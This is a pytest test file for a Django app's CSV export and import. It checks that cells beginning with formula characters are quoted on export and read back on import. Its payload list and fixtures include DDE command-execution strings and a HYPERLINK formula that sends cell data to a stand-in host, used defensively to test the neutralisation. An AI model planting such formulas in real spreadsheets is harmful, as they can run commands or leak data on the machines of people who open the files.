"""Every CSV the product writes neutralises spreadsheet formulas (issue 15, finding 2), and the account
import reads a neutralised cell back to its value."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tasks.csv_import import parse_accounts_csv
from tasks.spreadsheet import neutralise, restore
from tests.support.factories import AccountFactory, AccountRunFactory, RunFactory, TaskFactory

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_start_gets_a_quote_and_comes_back(payload):
    assert neutralise(payload) == "'" + payload
    assert restore(neutralise(payload)) == payload


@pytest.mark.parametrize("harmless", ["user@example.com", "INBOX", "", "'quoted already", "a=b", "Re: -5"])
def test_other_cells_are_left_as_they_are(harmless):
    assert neutralise(harmless) == harmless
    assert restore(harmless) == harmless


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def no_cell_starts_a_formula(table: list[list[str]]) -> bool:
    return all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for value in row)


@pytest.mark.django_db
def test_the_account_export_neutralises_formulas(admin_client):
    task = TaskFactory()
    AccountFactory(
        task=task,
        source_user="=cmd|' /C calc'!A0",
        destination_user="@evil",
        source_test_status="fail",
        source_test_message='=HYPERLINK("http://evil.example/?"&A1)',
        destination_test_message="-2+3",
    )
    table = rows(admin_client.get(reverse("tasks:account_export", args=[task.pk])))
    assert no_cell_starts_a_formula(table)
    assert table[1][:4] == ["'=cmd|' /C calc'!A0", "'@evil", "fail", '\'=HYPERLINK("http://evil.example/?"&A1)']
    assert table[1][5] == "'-2+3"


@pytest.mark.django_db
def test_the_run_report_csv_neutralises_what_senders_and_servers_wrote(admin_client):
    run = RunFactory()
    account = AccountFactory(task=run.task, source_user="+plus@old")
    AccountRunFactory(
        run=run,
        account=account,
        status="failed",
        copied=3,
        last_error="=1+1 server said",
        message_errors=[
            {
                "folder": "@Archive",
                "uid": 9,
                "subject": '=HYPERLINK("http://evil.example/?"&A1)',
                "size": 10,
                "reason": "\t=refused",
            }
        ],
    )
    table = rows(admin_client.get(reverse("runs:report_csv", args=[run.pk])))
    assert no_cell_starts_a_formula(table)
    assert table[1][0] == "'+plus@old" and table[1][3] == "3" and table[1][7] == "'=1+1 server said"
    assert table[2][7:11] == ["'\t=refused", "'@Archive", "9", '\'=HYPERLINK("http://evil.example/?"&A1)']


@pytest.mark.django_db
def test_the_import_reads_a_neutralised_user_back_and_keeps_passwords_verbatim():
    task = TaskFactory()
    text = "source_user,source_password,destination_user,destination_password\n'=alice@old,'=pw,'@alice@new,\n"
    preview = parse_accounts_csv(task, text.encode())
    assert not preview.errors
    row = preview.rows[0]
    assert (row.source_user, row.destination_user) == ("=alice@old", "@alice@new")
    # Passwords are never exported; a quote in one is the password's own.
    assert row.source_password == "'=pw" and row.destination_password == "'=pw"
